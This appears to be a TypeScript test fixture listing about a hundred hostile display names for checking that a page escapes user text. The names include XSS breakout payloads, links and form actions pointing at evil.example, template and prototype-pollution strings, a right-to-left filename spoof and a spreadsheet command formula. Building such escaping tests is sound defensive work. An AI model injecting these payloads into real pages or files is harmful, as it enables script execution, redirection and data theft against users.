/** Names that would run, redirect, hide or break out, if a page took them for more than text. */
const CALL = 'window.pwned(1)';
const BREAKOUTS = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '</bdi>',
  '</template>',
];
const TAGS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
];
const ALONE = [
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `" onmouseover="${CALL}`,
  `' onfocus='${CALL}' autofocus='`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=//evil.example><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<!--<script>`,
  `<script type="application/json" id="data">{}</script>`,
  `\u2028\u2029</script><script>${CALL}</script>`,
  `\\u003cscript\\u003e${CALL}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `{{constructor.constructor("${CALL}")()}}`,
  '__proto__',
  'constructor',
  'invoice\u202egnp.exe',
  'a\u2066b\u2069c\u200bd\ufeff',
  'line\nfeed\r\ttab\0nul\u001b[31m',
  '\ud800lone\udfff',
  "=cmd|'/C calc'!A0",
];

/** Some 110 of them. */
export const HOSTILE_NAMES: readonly string[] = [
  ...BREAKOUTS.flatMap((out) => TAGS.map((tag) => `${out}${tag}`)),
  ...ALONE,
];
